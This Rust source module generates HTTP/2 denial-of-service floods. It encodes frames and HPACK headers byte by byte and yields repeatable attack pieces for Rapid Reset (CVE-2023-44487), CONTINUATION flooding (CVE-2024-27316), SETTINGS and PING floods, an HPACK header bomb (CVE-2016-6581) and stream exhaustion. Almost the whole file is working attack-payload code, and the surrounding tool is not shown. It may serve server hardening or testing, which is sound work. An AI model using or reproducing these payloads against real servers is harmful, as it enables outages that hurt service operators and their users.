//! HTTP/2 frames that no client library sends, and floods of them.

/// The bytes with which a client begins a connection: the preface, and empty settings.
pub(super) fn beginning() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET /` with `:authority` `a`, by the static table of HPACK.
const GET: [u8; 6] = [0x82, 0x87, 0x84, 0x41, 1, b'a'];
/// A literal header field that goes into the dynamic table: its name is `a`, and its value has 3,900 bytes.
const LONG_FIELD: [u8; 5] = [0x40, 1, b'a', 0x7f, 0xbd];
/// The dynamic table's newest field.
const NEWEST_FIELD: u8 = 0xbe;

/// A flood of HTTP/2.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// A header list without an end (CVE-2024-27316).
    Continuation,
    /// Settings, each of which the server has to acknowledge (CVE-2019-9515).
    Settings,
    /// Pings, each of which the server has to answer (CVE-2019-9512).
    Ping,
    /// A header list of a few bytes for each of its many fields of 3,900 bytes (CVE-2016-6581).
    HeaderBomb,
    /// Requests beyond the number that the server allows at one time, and whose bodies never come.
    Streams,
}

impl Flood {
    pub(super) const ALL: [Self; 6] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::HeaderBomb,
        Self::Streams,
    ];

    /// The bytes of piece `n` of the flood, from 0; the attacker sends one piece after the other.
    pub(super) fn piece(self, n: u32) -> Vec<u8> {
        // Streams of clients have odd numbers.
        let stream = 2 * n + 1;
        match self {
            Self::RapidReset => {
                let mut bytes = frame(HEADERS, END_STREAM | END_HEADERS, stream, &GET);
                // The error code CANCEL.
                bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                bytes
            }
            Self::Continuation if n == 0 => frame(HEADERS, 0, 1, &GET),
            // Literal header fields `a: b` that the dynamic table does not keep.
            Self::Continuation => frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b'].repeat(3000)),
            // SETTINGS_INITIAL_WINDOW_SIZE, which changes each time.
            Self::Settings => {
                let [.., low] = n.to_be_bytes();
                frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0x80, low])
            }
            Self::Ping => frame(PING, 0, 0, &u64::from(n).to_be_bytes()),
            Self::HeaderBomb => {
                let mut fields = GET.to_vec();
                fields.extend(LONG_FIELD);
                // The length of the value, 3,900 = 127 + 61 + 29 * 128: the second byte of the number.
                fields.push(29);
                fields.extend([b'x'; 3900]);
                fields.extend([NEWEST_FIELD; 12_000]);
                frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields)
            }
            Self::Streams => frame(HEADERS, END_HEADERS, stream, &GET),
        }
    }
}

/// One HTTP/2 frame: length, type, flags and stream, then the payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    let [_, high, middle, low] = length.to_be_bytes();
    let mut bytes = vec![high, middle, low, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}
